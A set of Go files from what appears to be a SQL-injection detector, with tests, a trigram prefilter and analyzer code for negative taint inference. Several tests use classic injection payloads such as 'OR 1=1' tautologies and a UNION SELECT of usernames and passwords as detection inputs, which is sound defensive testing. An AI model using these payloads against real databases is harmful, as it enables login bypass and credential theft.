	// The lazy lex ran under tracing, so lex time must be attributed.
	if span.LexNs <= 0 {
		t.Fatal("lazy lex duration not recorded")
	}
	if span.NTIMatchNs <= 0 {
		t.Fatal("match durations not accumulated")
	}
}

func TestAnalyzeTracedNilSpanMatchesAnalyze(t *testing.T) {
	a := MustNew()
	query := "SELECT * FROM records WHERE ID=-1 UNION SELECT 1"
	inputs := []Input{{Source: "get", Name: "id", Value: "-1 UNION SELECT 1"}}
	plain := a.Analyze(query, nil, inputs)
	traced := a.AnalyzeTraced(query, nil, inputs, nil)
	if plain.Attack != traced.Attack || len(plain.Reasons) != len(traced.Reasons) {
		t.Fatalf("nil-span AnalyzeTraced diverged: %+v vs %+v", plain, traced)
	}
}
