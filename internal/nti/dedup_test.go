package nti

import (
	"strings"
	"testing"

	"joza/internal/strdist"
)

func TestDedupMirroredInputsSingleMarking(t *testing.T) {
	// The same payload arrives under GET and a cookie: one marking, one
	// set of reasons, both sources attributed.
	a := New()
	payload := "-1 OR 1=1"
	q := "SELECT * FROM data WHERE ID=" + payload
	res := a.Analyze(q, nil, []Input{
		{Source: "get", Name: "id", Value: payload},
		{Source: "cookie", Name: "id", Value: payload},
	})
	if !res.Attack {
		t.Fatal("attack not detected")
	}
	if len(res.Markings) != 1 {
		t.Fatalf("markings = %d, want 1 (deduped): %+v", len(res.Markings), res.Markings)
	}
	src := res.Markings[0].Source
	if !strings.Contains(src, "get:id") || !strings.Contains(src, "cookie:id") {
		t.Errorf("marking source %q must attribute both keys", src)
	}
	// Reasons must not be duplicated: OR and = flagged once each.
	seen := map[string]int{}
	for _, r := range res.Reasons {
		seen[r.Token.Text]++
	}
	for text, n := range seen {
		if n > 1 {
			t.Errorf("reason for %q duplicated %d times", text, n)
		}
	}
}

func TestDedupIdenticalInputRepeated(t *testing.T) {
	// The exact same (key, value) pair twice: the key appears once in the
	// attribution.
	a := New()
	res := a.Analyze("SELECT * FROM t WHERE a='x'", nil, []Input{
		{Source: "get", Name: "v", Value: "x"},
		{Source: "get", Name: "v", Value: "x"},
	})
	if len(res.Markings) != 1 {
		t.Fatalf("markings = %d, want 1", len(res.Markings))
	}
	if got := res.Markings[0].Source; got != "get:v" {
		t.Errorf("source = %q, want %q", got, "get:v")
	}
}

func TestDedupDistinctValuesKeptSeparate(t *testing.T) {
	a := New()
	q := "SELECT * FROM t WHERE a='x' AND b='y'"
	res := a.Analyze(q, nil, []Input{
		{Source: "get", Name: "a", Value: "x"},
		{Source: "get", Name: "b", Value: "y"},
	})
	if len(res.Markings) != 2 {
		t.Fatalf("markings = %d, want 2: %+v", len(res.Markings), res.Markings)
	}
	if res.Markings[0].Source == res.Markings[1].Source {
		t.Error("distinct values must keep their own attribution")
	}
}

func TestDedupMatcherRunsOncePerValue(t *testing.T) {
	// A non-verbatim payload (so the approximate matcher actually runs)
	// mirrored under three keys must cost one matcher invocation.
	calls := 0
	a := New(WithMatcher(func(input, query string) strdist.Match {
		calls++
		return strdist.SubstringMatch(input, query)
	}))
	payload := "-1 OR 1=2"
	q := "SELECT * FROM t WHERE id=-1 OR 1=1"
	res := a.Analyze(q, nil, []Input{
		{Source: "get", Name: "id", Value: payload},
		{Source: "post", Name: "id", Value: payload},
		{Source: "cookie", Name: "sid", Value: payload},
	})
	if !res.Attack {
		t.Fatal("attack not detected")
	}
	if calls != 1 {
		t.Errorf("matcher ran %d times, want 1", calls)
	}
	if st := a.Stats(); st.MatcherCalls != 1 {
		t.Errorf("MatcherCalls = %d, want 1", st.MatcherCalls)
	}
}

func TestStatsCountsEarlyExits(t *testing.T) {
	a := New()
	// Long junk input against a shorter query passes the cheap pre-prune
	// (value ≤ query) but is hopeless: the banded matcher abandons it.
	junk := strings.Repeat("x", 40)
	q := "SELECT id, title, body FROM posts WHERE id=42 ORDER BY id DESC"
	res := a.Analyze(q, nil, []Input{{Source: "get", Name: "x", Value: junk}})
	if res.Attack || len(res.Markings) != 0 {
		t.Fatalf("junk input matched: %+v", res)
	}
	st := a.Stats()
	if st.MatcherCalls != 1 {
		t.Errorf("MatcherCalls = %d, want 1", st.MatcherCalls)
	}
	if st.EarlyExits != 1 {
		t.Errorf("EarlyExits = %d, want 1", st.EarlyExits)
	}
}

func TestAnalyzeLexesLazily(t *testing.T) {
	// No inputs: Analyze must not need tokens at all (nil toks stays nil
	// internally; result is empty and safe).
	a := New()
	res := a.Analyze("SELECT * FROM t", nil, nil)
	if res.Attack || len(res.Markings) != 0 {
		t.Errorf("no-input analyze = %+v", res)
	}
}

func TestContainsKey(t *testing.T) {
	cases := []struct {
		source, key string
		want        bool
	}{
		{"get:id", "get:id", true},
		{"get:id,cookie:id", "cookie:id", true},
		{"get:id,cookie:id", "post:id", false},
		{"", "get:id", false},
		{"get:idx", "get:id", false},
	}
	for _, c := range cases {
		if got := containsKey(c.source, c.key); got != c.want {
			t.Errorf("containsKey(%q, %q) = %v, want %v", c.source, c.key, got, c.want)
		}
	}
}
