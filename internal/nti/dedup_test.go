package nti

import (
	"slices"
	"strings"
	"testing"

	"joza/internal/strdist"
)

func TestDedupMirroredInputsSingleMarking(t *testing.T) {
	// The same payload arrives under GET and a cookie: one marking, one
	// set of reasons, both sources attributed.
	a := MustNew()
	payload := "-1 OR 1=1"
	q := "SELECT * FROM data WHERE ID=" + payload
	res := a.Analyze(q, nil, []Input{
		{Source: "get", Name: "id", Value: payload},
		{Source: "cookie", Name: "id", Value: payload},
	})
	if !res.Attack {
		t.Fatal("attack not detected")
	}
	if len(res.Markings) != 1 {
		t.Fatalf("markings = %d, want 1 (deduped): %+v", len(res.Markings), res.Markings)
	}
	src := res.Markings[0].Source
	if !strings.Contains(src, "get:id") || !strings.Contains(src, "cookie:id") {
		t.Errorf("marking source %q must attribute both keys", src)
	}
	// Reasons must not be duplicated: OR and = flagged once each.
	seen := map[string]int{}
	for _, r := range res.Reasons {
		seen[r.Token.Text]++
	}
	for text, n := range seen {
		if n > 1 {
			t.Errorf("reason for %q duplicated %d times", text, n)
		}
	}
}

func TestDedupIdenticalInputRepeated(t *testing.T) {
	// The exact same (key, value) pair twice: the key appears once in the
	// attribution.
	a := MustNew()
	res := a.Analyze("SELECT * FROM t WHERE a='x'", nil, []Input{
		{Source: "get", Name: "v", Value: "x"},
		{Source: "get", Name: "v", Value: "x"},
	})
	if len(res.Markings) != 1 {
		t.Fatalf("markings = %d, want 1", len(res.Markings))
	}
	if got := res.Markings[0].Source; got != "get:v" {
		t.Errorf("source = %q, want %q", got, "get:v")
	}
}

func TestDedupDistinctValuesKeptSeparate(t *testing.T) {
	a := MustNew()
	q := "SELECT * FROM t WHERE a='x' AND b='y'"
	res := a.Analyze(q, nil, []Input{
		{Source: "get", Name: "a", Value: "x"},
		{Source: "get", Name: "b", Value: "y"},
	})
	if len(res.Markings) != 2 {
		t.Fatalf("markings = %d, want 2: %+v", len(res.Markings), res.Markings)
	}
	if res.Markings[0].Source == res.Markings[1].Source {
		t.Error("distinct values must keep their own attribution")
	}
}

func TestDedupMatcherRunsOncePerValue(t *testing.T) {
	// A non-verbatim payload (so the approximate matcher actually runs)
	// mirrored under three keys must cost one matcher invocation.
	calls := 0
	a := MustNew(WithMatcher(func(input, query string) strdist.Match {
		calls++
		return strdist.SubstringMatch(input, query)
	}))
	payload := "-1 OR 1=2"
	q := "SELECT * FROM t WHERE id=-1 OR 1=1"
	res := a.Analyze(q, nil, []Input{
		{Source: "get", Name: "id", Value: payload},
		{Source: "post", Name: "id", Value: payload},
		{Source: "cookie", Name: "sid", Value: payload},
	})
	if !res.Attack {
		t.Fatal("attack not detected")
	}
	if calls != 1 {
		t.Errorf("matcher ran %d times, want 1", calls)
	}
	if st := a.Stats(); st.MatcherCalls != 1 {
		t.Errorf("MatcherCalls = %d, want 1", st.MatcherCalls)
	}
}

func TestStatsCountsPrefilterRejects(t *testing.T) {
	// Long junk input against a shorter query passes the cheap pre-prune
	// (value ≤ query) but is hopeless: with the prefilter on it is
	// rejected before any matcher runs.
	a := MustNew()
	junk := strings.Repeat("x", 40)
	q := "SELECT id, title, body FROM posts WHERE id=42 ORDER BY id DESC"
	res := a.Analyze(q, nil, []Input{{Source: "get", Name: "x", Value: junk}})
	if res.Attack || len(res.Markings) != 0 {
		t.Fatalf("junk input matched: %+v", res)
	}
	st := a.Stats()
	if st.PrefilterChecks != 1 || st.PrefilterRejects != 1 {
		t.Errorf("prefilter checks/rejects = %d/%d, want 1/1", st.PrefilterChecks, st.PrefilterRejects)
	}
	if st.MatcherCalls != 0 {
		t.Errorf("MatcherCalls = %d, want 0 (prefilter rejected)", st.MatcherCalls)
	}
}

func TestStatsCountsEarlyExits(t *testing.T) {
	// Same hopeless pair with the prefilter off: the matcher runs once
	// and its scan abandons the comparison early.
	a := MustNew(WithoutPrefilter())
	junk := strings.Repeat("x", 40)
	q := "SELECT id, title, body FROM posts WHERE id=42 ORDER BY id DESC"
	res := a.Analyze(q, nil, []Input{{Source: "get", Name: "x", Value: junk}})
	if res.Attack || len(res.Markings) != 0 {
		t.Fatalf("junk input matched: %+v", res)
	}
	st := a.Stats()
	if st.MatcherCalls != 1 {
		t.Errorf("MatcherCalls = %d, want 1", st.MatcherCalls)
	}
	if st.EarlyExits != 1 {
		t.Errorf("EarlyExits = %d, want 1", st.EarlyExits)
	}
	if st.PrefilterChecks != 0 {
		t.Errorf("PrefilterChecks = %d, want 0 (prefilter disabled)", st.PrefilterChecks)
	}
}

func TestAnalyzeLexesLazily(t *testing.T) {
	// No inputs: Analyze must not need tokens at all (nil toks stays nil
	// internally; result is empty and safe).
	a := MustNew()
	res := a.Analyze("SELECT * FROM t", nil, nil)
	if res.Attack || len(res.Markings) != 0 {
		t.Errorf("no-input analyze = %+v", res)
	}
}

func TestDedupCommaBearingName(t *testing.T) {
	// Regression: a parameter name containing a comma (legal in header and
	// cookie names) used to split into bogus keys when attribution was a
	// comma-joined string, so "header:a,b" looked like it already
	// contained "header:a" and dedup dropped the real key.
	groups := dedupInputs([]Input{
		{Source: "header", Name: "a,b", Value: "v1"},
		{Source: "header", Name: "a", Value: "v1"},
		{Source: "header", Name: "a,b", Value: "v1"}, // repeat: must not duplicate
	})
	if len(groups) != 1 {
		t.Fatalf("groups = %d, want 1", len(groups))
	}
	want := []string{"header:a,b", "header:a"}
	if !slices.Equal(groups[0].keys, want) {
		t.Fatalf("keys = %q, want %q", groups[0].keys, want)
	}
	if got := groups[0].sourceLabel(); got != "header:a,b,header:a" {
		t.Errorf("sourceLabel = %q", got)
	}
}

func TestDedupCommaBearingNameEndToEnd(t *testing.T) {
	// The rendered marking must attribute both channels even when one
	// name carries a comma.
	a := MustNew()
	payload := "-1 OR 1=1"
	q := "SELECT * FROM data WHERE ID=" + payload
	res := a.Analyze(q, nil, []Input{
		{Source: "header", Name: "x,y", Value: payload},
		{Source: "get", Name: "x", Value: payload},
	})
	if !res.Attack || len(res.Markings) != 1 {
		t.Fatalf("result = %+v", res)
	}
	if got := res.Markings[0].Source; got != "header:x,y,get:x" {
		t.Errorf("marking source = %q", got)
	}
}
