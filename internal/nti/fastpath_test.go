package nti

import (
	"context"
	"errors"
	"strings"
	"testing"

	"joza/internal/core"
	"joza/internal/strdist"
)

func TestExactOccurrencesCoalesceIntoRegions(t *testing.T) {
	// A 1-byte input against a repetitive query used to mark every
	// occurrence individually; overlapping and adjacent zero-distance
	// spans must coalesce into one marking per covered region.
	a := MustNew()
	q := "SELECT * FROM t WHERE a='" + strings.Repeat("x", 100) + "'"
	res := a.Analyze(q, nil, inputs("v", "x"))
	if len(res.Markings) != 1 {
		t.Fatalf("markings = %d, want 1 coalesced region: %+v", len(res.Markings), res.Markings)
	}
	m := res.Markings[0]
	if m.Span.Len() != 100 || m.Distance != 0 {
		t.Errorf("region = %+v, want the full 100-byte stretch at distance 0", m)
	}
}

func TestExactOverlappingOccurrencesCoalesce(t *testing.T) {
	// "xx" in "xxxx" overlaps at every offset: one region covering all of
	// it, not three sliding spans.
	a := MustNew()
	q := "SELECT * FROM t WHERE a='xxxx'"
	res := a.Analyze(q, nil, inputs("v", "xx"))
	if len(res.Markings) != 1 {
		t.Fatalf("markings = %d, want 1: %+v", len(res.Markings), res.Markings)
	}
	if got := res.Markings[0].Span.Len(); got != 4 {
		t.Errorf("region length = %d, want 4", got)
	}
}

func TestExactSeparatedOccurrencesStayDistinct(t *testing.T) {
	// Disjoint occurrences keep their own markings (the pre-existing
	// multiple-occurrence behavior).
	a := MustNew()
	q := "SELECT * FROM t WHERE a='x' OR b='x'"
	res := a.Analyze(q, nil, inputs("v", "x"))
	if len(res.Markings) != 2 {
		t.Errorf("markings = %d, want 2", len(res.Markings))
	}
}

func TestExactRegionCap(t *testing.T) {
	// Scattered (non-adjacent) occurrences cannot coalesce; the region
	// cap bounds the marking count regardless.
	a := MustNew()
	q := "SELECT '" + strings.Repeat("x,", 2*maxExactRegions) + "'"
	res := a.Analyze(q, nil, inputs("v", "x"))
	if len(res.Markings) != maxExactRegions {
		t.Errorf("markings = %d, want cap %d", len(res.Markings), maxExactRegions)
	}
}

func TestExactScanChargesBudget(t *testing.T) {
	// The occurrence scan itself must be charged against the DP cell
	// budget: a repetitive query cannot buy unbounded probe work.
	a := MustNew(WithDPCellBudget(1000))
	q := "SELECT '" + strings.Repeat("x", 5000) + "'"
	_, err := a.AnalyzeCtx(context.Background(), q, nil,
		[]Input{{Source: "get", Name: "v", Value: "x"}}, nil)
	if !errors.Is(err, core.ErrOverBudget) {
		t.Fatalf("err = %v, want core.ErrOverBudget", err)
	}
}

func TestBudgetBlindMatcherFailsConstruction(t *testing.T) {
	// A bare MatcherFunc cannot observe the DP cell budget; combining the
	// two must fail construction rather than silently void containment.
	for _, opts := range [][]Option{
		{WithDPCellBudget(100), WithMatcher(strdist.NaiveSubstringMatch)},
		{WithMatcher(strdist.NaiveSubstringMatch), WithDPCellBudget(100)},
	} {
		if _, err := New(opts...); err == nil {
			t.Error("construction with budget-blind matcher must fail")
		}
	}
	// Budget with the built-in engines is fine.
	if _, err := New(WithDPCellBudget(100)); err != nil {
		t.Errorf("default engine with budget: %v", err)
	}
	if _, err := New(WithDPCellBudget(100), WithSellersMatcher()); err != nil {
		t.Errorf("sellers engine with budget: %v", err)
	}
}

func TestMatcherFuncObservesCtx(t *testing.T) {
	// The MatcherFunc wrapper checks ctx at the call boundary: a canceled
	// context must fail instead of running the wrapped function.
	ran := false
	a := MustNew(WithMatcher(func(input, query string) strdist.Match {
		ran = true
		return strdist.SubstringMatch(input, query)
	}), WithoutPrefilter())
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := a.AnalyzeCtx(ctx, "SELECT * FROM t WHERE id=-1 OR 1=1", nil,
		inputs("id", "-1 OR 1=2"), nil)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if ran {
		t.Error("wrapped matcher ran despite canceled ctx")
	}
}

// TestEnginesAgreeOnPayloads drives both built-in engines (and the
// prefilter on/off variants) over representative payload shapes and
// requires identical results — markings, reasons and verdicts.
func TestEnginesAgreeOnPayloads(t *testing.T) {
	payloads := []struct{ value, query string }{
		{"-1 OR 1=1", "SELECT * FROM data WHERE ID=-1 OR 1=1"},
		{"-1 OR 1=1 ", "SELECT * FROM t WHERE id=-1 OR 1=1"},
		{"-1 UNION SELECT username, password FROM users", "SELECT * FROM posts WHERE id=-1 UNION SELECT username, password FROM users"},
		{"admin' OR '1'='1", `SELECT * FROM users WHERE name='admin\' OR \'1\'=\'1'`},
		{"benign search terms", "SELECT * FROM posts WHERE title LIKE '%benign search terms%'"},
		{"zzzz-unrelated-zzzz", "SELECT * FROM posts WHERE id=42"},
		{strings.Repeat("A", 120) + " OR 1=1", "SELECT * FROM t WHERE a='" + strings.Repeat("A", 119) + " OR 1=1'"},
	}
	variants := []struct {
		name string
		mk   func() *Analyzer
	}{
		{"bitparallel+prefilter", func() *Analyzer { return MustNew() }},
		{"bitparallel", func() *Analyzer { return MustNew(WithoutPrefilter()) }},
		{"sellers+prefilter", func() *Analyzer { return MustNew(WithSellersMatcher()) }},
		{"sellers", func() *Analyzer { return MustNew(WithSellersMatcher(), WithoutPrefilter()) }},
	}
	for _, p := range payloads {
		var base core.Result
		for vi, v := range variants {
			res := v.mk().Analyze(p.query, nil, inputs("id", p.value))
			if vi == 0 {
				base = res
				continue
			}
			if res.Attack != base.Attack || len(res.Markings) != len(base.Markings) || len(res.Reasons) != len(base.Reasons) {
				t.Fatalf("%s diverged on %q: %+v vs %+v", v.name, p.value, res, base)
			}
			for i := range res.Markings {
				if res.Markings[i] != base.Markings[i] {
					t.Fatalf("%s marking %d on %q: %+v vs %+v", v.name, i, p.value, res.Markings[i], base.Markings[i])
				}
			}
		}
	}
}
