// The q-gram prefilter: rejecting input×query pairs before any DP.
//
// By the q-gram lemma, two strings within edit distance k share at least
// (n−q+1) − q·k of the shorter string's q-grams: every edit destroys at
// most q grams. NTI only cares about matches whose difference ratio is
// strictly below the threshold, which bounds the qualifying distance
// (strdist.MaxQualifyingDistance); when the input cannot meet the gram
// quota against the query's gram set, no qualifying span can exist and
// the pair is rejected in O(n) with no matcher call at all. Counting
// set membership (rather than multiset occurrences) only over-counts, so
// the filter never rejects a pair the matcher would have accepted.
//
// The gram set is built lazily, once per analyzed query — the first
// input that survives the cheap pre-checks pays the O(m) build, every
// further input reuses it — and the backing table is pooled so the
// steady state allocates nothing.
package nti

import (
	"sync"

	"joza/internal/strdist"
)

// gramQ is the q-gram width. Trigrams pack into 24 bits and are selective
// enough that benign form fields almost never meet the quota against a
// SQL statement by accident.
const gramQ = 3

// gramSet is an open-addressing set of packed trigrams. Entries store the
// packed gram plus one so zero means empty.
type gramSet struct {
	table []uint32
	mask  uint32
}

var gramSetPool = sync.Pool{New: func() any { return new(gramSet) }}

func packGram(a, b, c byte) uint32 {
	return uint32(a)<<16 | uint32(b)<<8 | uint32(c)
}

// gramSlot mixes the packed gram into a table slot (Knuth multiplicative
// hashing; the table size is a power of two).
func (s *gramSet) gramSlot(g uint32) uint32 {
	return (g * 2654435761) & s.mask
}

// build fills the set with every trigram of q, reusing the previous
// table allocation when large enough.
func (s *gramSet) build(q string) {
	n := len(q) - gramQ + 1
	if n < 1 {
		s.table = s.table[:0]
		s.mask = 0
		return
	}
	size := 1
	for size < 2*n {
		size <<= 1
	}
	if cap(s.table) < size {
		s.table = make([]uint32, size)
	} else {
		s.table = s.table[:size]
		for i := range s.table {
			s.table[i] = 0
		}
	}
	s.mask = uint32(size - 1)
	for i := 0; i < n; i++ {
		g := packGram(q[i], q[i+1], q[i+2])
		slot := s.gramSlot(g)
		for {
			switch s.table[slot] {
			case 0:
				s.table[slot] = g + 1
			case g + 1:
			default:
				slot = (slot + 1) & s.mask
				continue
			}
			break
		}
	}
}

func (s *gramSet) contains(g uint32) bool {
	if len(s.table) == 0 {
		return false
	}
	slot := s.gramSlot(g)
	for {
		switch s.table[slot] {
		case 0:
			return false
		case g + 1:
			return true
		}
		slot = (slot + 1) & s.mask
	}
}

// hasAtLeast reports whether at least need trigram positions of value
// hit the set, aborting as soon as the quota is met or becomes
// unreachable.
func (s *gramSet) hasAtLeast(value string, need int) bool {
	positions := len(value) - gramQ + 1
	hits := 0
	for i := 0; i < positions; i++ {
		if s.contains(packGram(value[i], value[i+1], value[i+2])) {
			if hits++; hits >= need {
				return true
			}
		} else if hits+positions-i-1 < need {
			return false
		}
	}
	return false
}

// checkState is the per-AnalyzeCtx scratch shared across that check's
// matchInput calls: the lazily-built query gram set plus trace
// bookkeeping. release must run before the check returns.
type checkState struct {
	grams *gramSet
	built bool
	// timed mirrors span.Active() so the prefilter only pays for clocks on
	// traced checks.
	timed bool
	// prefilterNs accumulates prefilter wall time; it is a sub-portion of
	// the check's NTI match time.
	prefilterNs int64
	// rejected reports whether the most recent matchInput call ended at
	// the prefilter (trace evidence).
	rejected bool
}

func (st *checkState) ensureGrams(query string) *gramSet {
	if !st.built {
		st.grams = gramSetPool.Get().(*gramSet)
		st.grams.build(query)
		st.built = true
	}
	return st.grams
}

func (st *checkState) release() {
	if st.built {
		gramSetPool.Put(st.grams)
		st.grams = nil
		st.built = false
	}
}

// prefilterReject reports whether value provably cannot produce a
// qualifying match anywhere in query. Callers have already ruled out
// exact occurrences (the fast path runs first).
func (a *Analyzer) prefilterReject(value, query string, st *checkState) bool {
	kEff := strdist.MaxQualifyingDistance(len(value), a.threshold, len(query))
	if kEff <= 0 {
		// Only exact occurrences could stay under the threshold, and the
		// fast path found none.
		return true
	}
	if len(value) < gramQ {
		return false
	}
	need := (len(value) - gramQ + 1) - gramQ*kEff
	if need <= 0 {
		return false
	}
	return !st.ensureGrams(query).hasAtLeast(value, need)
}
