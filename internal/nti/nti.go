// Package nti implements negative taint inference: inferring which parts
// of a SQL query derive from untrusted application input by approximate
// string matching, per Section III-A of the Joza paper.
//
// For every captured input p and intercepted query q, NTI computes the
// substring of q with minimum edit distance to p. The difference ratio —
// distance divided by the length of the matched substring — is compared to
// a threshold (default 0.20): below the threshold, the matched span is
// marked negatively tainted. An attack is reported when a negatively
// tainted span (that covers at least one whole SQL token) fully contains a
// critical token. Markings inferred from different inputs are never
// combined, and short inputs cannot trigger an alarm unless they cover a
// whole token, both per the paper's false-positive mitigations.
//
// Two layers keep the per-check cost sub-quadratic in practice (the
// Section VI "skip implausible comparisons" optimizations): a q-gram
// prefilter (prefilter.go) rejects most input×query pairs in O(n), and
// the default matcher is the bit-parallel engine
// (strdist.BitParallelThresholdBudgetCtx), which settles survivors at 64
// DP cells per word before falling back to the cell-at-a-time Sellers DP
// only for actual span extraction.
package nti

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync/atomic"
	"time"

	"joza/internal/core"
	"joza/internal/sqltoken"
	"joza/internal/strdist"
	"joza/internal/trace"
)

// DefaultThreshold is the difference-ratio threshold used when none is
// configured. The paper's running example uses 20%: a magic-quotes-inflated
// payload at 22.7% escapes matching.
const DefaultThreshold = 0.20

// maxExactRegions caps how many coalesced exact-occurrence regions one
// input may mark. A pathological pair (a tiny input scattered through a
// huge query) otherwise manufactures unbounded markings and an unbounded
// attackReasons scan; past the cap the remaining occurrences go unmarked,
// which only ever suppresses markings that repeat ones already recorded.
const maxExactRegions = 512

// Input is one captured application input value.
type Input struct {
	// Source is the input channel: "get", "post", "cookie", "header", ...
	Source string
	// Name is the parameter name within the source.
	Name string
	// Value is the raw value as received, before any application
	// transformation (Joza's preprocessing stores inputs at request entry).
	Value string
}

// Key returns the "source:name" identifier used in markings.
func (in Input) Key() string { return in.Source + ":" + in.Name }

// Matcher is the pluggable approximate-matching engine. MatchThreshold
// must honor ctx cancellation, charge its work against maxCells DP cells
// when maxCells is positive (failing with an error wrapping
// strdist.ErrBudget), and use the package's strict-inequality ratio
// semantics: found means the best match's Ratio() is strictly below
// threshold. pruned reports that the comparison was abandoned early as
// hopeless.
type Matcher interface {
	MatchThreshold(ctx context.Context, input, query string, threshold float64, maxCells int) (m strdist.Match, found, pruned bool, err error)
}

// MatcherFunc adapts a bare best-match function (no ctx, no budget) to
// the Matcher interface; benchmarks use it to measure the naive
// algorithm. The wrapper checks ctx before running — coarse, since the
// wrapped function cannot be interrupted — and is budget-blind: New
// rejects it when combined with WithDPCellBudget, because the budget
// could not be enforced.
type MatcherFunc func(input, query string) strdist.Match

// funcMatcher wraps a MatcherFunc as a Matcher.
type funcMatcher struct{ fn MatcherFunc }

func (f funcMatcher) MatchThreshold(ctx context.Context, input, query string, threshold float64, _ int) (strdist.Match, bool, bool, error) {
	if err := ctx.Err(); err != nil {
		return strdist.Match{}, false, false, err
	}
	m := f.fn(input, query)
	return m, m.Ratio() < threshold, false, nil
}

// budgetBlind marks matchers that cannot enforce a DP cell budget.
func (funcMatcher) budgetBlind() {}

// bitParallelMatcher is the default engine: a Myers bit-parallel reject
// scan with Sellers span extraction on hits.
type bitParallelMatcher struct{}

func (bitParallelMatcher) MatchThreshold(ctx context.Context, input, query string, threshold float64, maxCells int) (strdist.Match, bool, bool, error) {
	return strdist.BitParallelThresholdBudgetCtx(ctx, input, query, threshold, maxCells)
}

// sellersMatcher is the cell-at-a-time threshold-banded Sellers DP — the
// engine predating the bit-parallel one, kept selectable for ablations
// and differential tests.
type sellersMatcher struct{}

func (sellersMatcher) MatchThreshold(ctx context.Context, input, query string, threshold float64, maxCells int) (strdist.Match, bool, bool, error) {
	return strdist.SubstringMatchThresholdBudgetCtx(ctx, input, query, threshold, maxCells)
}

// Analyzer runs negative taint inference. The zero value is not usable;
// construct with New.
type Analyzer struct {
	threshold float64
	// match is the approximate-matching engine; bit-parallel by default.
	match Matcher
	// prefilter enables the q-gram reject stage ahead of the matcher.
	prefilter bool
	// maxInputLen caps the input size fed to the quadratic matcher; longer
	// inputs are only checked with the exact-substring fast path. This is
	// one of the "skip implausible comparisons" optimizations: an input
	// much longer than any plausible match window cannot produce a ratio
	// under threshold unless it appears nearly verbatim.
	maxInputLen int
	// critical decides which tokens an attack may not touch; the default
	// is the paper's pragmatic policy (identifiers allowed).
	critical func(sqltoken.Token) bool
	// maxQueryBytes caps the query size AnalyzeCtx will analyze; longer
	// queries fail with core.ErrOverBudget. Zero disables the cap.
	maxQueryBytes int
	// dpCellBudget caps the DP cells one input/query pair may compute in
	// the approximate matcher; exceeding it fails the analysis with
	// core.ErrOverBudget. Zero disables the cap. The exact-occurrence
	// scan charges its probed bytes against the same cap.
	dpCellBudget int

	// dialect governs internal lexing when callers pass nil tokens; the
	// zero value is sqltoken.MySQL, preserving historical behavior.
	dialect sqltoken.Dialect

	matcherCalls     atomic.Uint64
	earlyExits       atomic.Uint64
	prefilterChecks  atomic.Uint64
	prefilterRejects atomic.Uint64
}

// Stats counts the analyzer's matching activity: how often input×query
// pairs reached the prefilter and were rejected there, how often the
// approximate matcher actually ran, and how often it abandoned the
// comparison early (threshold band exhausted or bit-parallel scan miss).
type Stats struct {
	MatcherCalls     uint64
	EarlyExits       uint64
	PrefilterChecks  uint64
	PrefilterRejects uint64
}

// Dialect returns the SQL dialect the analyzer lexes under.
func (a *Analyzer) Dialect() sqltoken.Dialect { return a.dialect }

// Stats returns a snapshot of the matcher counters.
func (a *Analyzer) Stats() Stats {
	return Stats{
		MatcherCalls:     a.matcherCalls.Load(),
		EarlyExits:       a.earlyExits.Load(),
		PrefilterChecks:  a.prefilterChecks.Load(),
		PrefilterRejects: a.prefilterRejects.Load(),
	}
}

// Option configures an Analyzer.
type Option func(*Analyzer)

// WithThreshold sets the difference-ratio threshold.
func WithThreshold(t float64) Option {
	return func(a *Analyzer) { a.threshold = t }
}

// WithMatcher replaces the approximate matcher with a bare best-match
// function (benchmarks use this to measure the naive algorithm). The
// function cannot observe budgets; combining it with WithDPCellBudget
// fails construction.
func WithMatcher(m MatcherFunc) Option {
	return func(a *Analyzer) { a.match = funcMatcher{fn: m} }
}

// WithMatcherEngine replaces the approximate matcher with a full
// ctx+budget-aware engine.
func WithMatcherEngine(m Matcher) Option {
	return func(a *Analyzer) { a.match = m }
}

// WithSellersMatcher selects the cell-at-a-time banded Sellers engine
// instead of the default bit-parallel one (ablations, differential
// tests, before/after benchmarks).
func WithSellersMatcher() Option {
	return func(a *Analyzer) { a.match = sellersMatcher{} }
}

// WithoutPrefilter disables the q-gram prefilter, sending every surviving
// pair straight to the matcher (ablations and benchmarks).
func WithoutPrefilter() Option {
	return func(a *Analyzer) { a.prefilter = false }
}

// WithMaxInputLen sets the input-size cap for approximate matching; inputs
// longer than n bytes only use the exact-match fast path. Zero disables the
// cap.
func WithMaxInputLen(n int) Option {
	return func(a *Analyzer) { a.maxInputLen = n }
}

// WithMaxQueryBytes caps the query size the analyzer accepts: AnalyzeCtx
// fails a longer query with an error wrapping core.ErrOverBudget, which
// the engine resolves through its failure mode. Zero (the default)
// disables the cap. Budgets are enforced on the context-aware path only —
// the legacy error-free entry points cannot report them.
func WithMaxQueryBytes(n int) Option {
	return func(a *Analyzer) { a.maxQueryBytes = n }
}

// WithDPCellBudget caps the dynamic-programming cells the approximate
// matcher may compute for one input/query pair; a comparison that crosses
// the cap fails the analysis with an error wrapping core.ErrOverBudget.
// This bounds the worst-case O(n·m) work a hostile input can demand
// regardless of deadline. Zero (the default) disables the cap.
func WithDPCellBudget(n int) Option {
	return func(a *Analyzer) { a.dpCellBudget = n }
}

// WithDialect sets the SQL dialect the analyzer lexes under when it has
// to lex internally (nil toks). Callers passing pre-lexed tokens must have
// lexed them under the same dialect. The default is sqltoken.MySQL.
func WithDialect(d sqltoken.Dialect) Option {
	return func(a *Analyzer) { a.dialect = d }
}

// WithStrictPolicy enforces the strict (Ray–Ligatti-style) policy of
// Section II: input-derived identifiers (field and table names) are also
// attacks. The default pragmatic policy permits them, since applications
// with advanced search legitimately pass field names through input.
func WithStrictPolicy() Option {
	return func(a *Analyzer) { a.critical = sqltoken.Token.CriticalStrict }
}

// New returns an Analyzer with the default threshold, the q-gram
// prefilter, and the bit-parallel matching engine. It fails when options
// conflict — today that means a DP cell budget combined with a
// budget-blind MatcherFunc, which would silently void the containment
// layer.
func New(opts ...Option) (*Analyzer, error) {
	a := &Analyzer{
		threshold:   DefaultThreshold,
		match:       bitParallelMatcher{},
		prefilter:   true,
		maxInputLen: 4096,
		critical:    sqltoken.Token.Critical,
	}
	for _, o := range opts {
		o(a)
	}
	if a.dpCellBudget > 0 {
		if _, blind := a.match.(interface{ budgetBlind() }); blind {
			return nil, fmt.Errorf("nti: WithDPCellBudget(%d) cannot be enforced through a budget-blind MatcherFunc; use WithMatcherEngine or drop the budget", a.dpCellBudget)
		}
	}
	return a, nil
}

// MustNew is New for configurations known valid at compile time; it
// panics on a construction error.
